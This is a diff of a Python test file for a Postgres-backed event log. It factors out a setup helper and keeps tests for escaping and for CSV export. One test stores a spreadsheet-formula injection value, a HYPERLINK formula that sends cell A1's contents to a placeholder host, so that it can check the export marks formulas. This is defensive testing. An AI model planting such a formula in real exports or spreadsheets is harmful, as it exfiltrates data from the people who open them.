@@ -131,15 +131,21 @@ def _schemas(tmp_path: Path) -> Path:
     return tmp_path / "data"
 
 
-def test_values_that_csv_and_json_escape_come_back_whole(
-    pg: PostgresServer, tmp_path: Path
-) -> None:
+def _study_store(pg: PostgresServer, tmp_path: Path) -> tuple[str, PostgresEventHandler, EventLog]:
+    """Return a fresh database's URL, and a handler and EventLog recording the study into it."""
     url = pg.url(pg.create_database(), password=PASSWORD)
     handler = PostgresEventHandler(url, spool_dir=tmp_path / "spool")
     eventlog = EventLog(
         handlers=[handler], allowed_schemas={STUDY: {"allowed_categories": ALLOWED}}
     )
     eventlog.register_schema(STUDY_SCHEMA)
+    return url, handler, eventlog
+
+
+def test_values_that_csv_and_json_escape_come_back_whole(
+    pg: PostgresServer, tmp_path: Path
+) -> None:
+    url, handler, eventlog = _study_store(pg, tmp_path)
     tricky = 'a,b "c"\n\\d\r\x1e\x1f é ""'
     eventlog.record_event(STUDY, 1, {**posted(1), "path": tricky}, START, context={"__user__": ""})
     eventlog.record_event(STUDY, 1, {**posted(2), "path": ""}, START + timedelta(seconds=1))
@@ -156,12 +162,7 @@ def test_values_that_csv_and_json_escape_come_back_whole(
 def test_a_csv_export_from_the_store_marks_a_formula_and_names_an_empty_selection(
     pg: PostgresServer, tmp_path: Path
 ) -> None:
-    url = pg.url(pg.create_database(), password=PASSWORD)
-    handler = PostgresEventHandler(url, spool_dir=tmp_path / "spool")
-    eventlog = EventLog(
-        handlers=[handler], allowed_schemas={STUDY: {"allowed_categories": ALLOWED}}
-    )
-    eventlog.register_schema(STUDY_SCHEMA)
+    url, handler, eventlog = _study_store(pg, tmp_path)
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
     eventlog.record_event(STUDY, 1, {**posted(1), "path": formula}, START)
     eventlog.record_event(STUDY, 1, {**posted(2), "path": "/home/u/a.ipynb"}, START)
